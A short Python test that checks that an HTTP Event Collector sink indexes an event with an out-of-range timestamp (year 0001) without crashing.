async def test_hec_delivers_an_event_whose_time_overflows(hec: HecDouble) -> None:
    """An event whose created_at cannot be converted to epoch seconds is
    indexed without a time, not a crash of the sink."""
    event = hostile_event("ok", 1)
    event["created_at"] = "0001-01-01T00:00:00+01:00"

    indexed = await through_hec(hec, batch_of([event], "raw"))

    assert indexed[0]["event"] == event
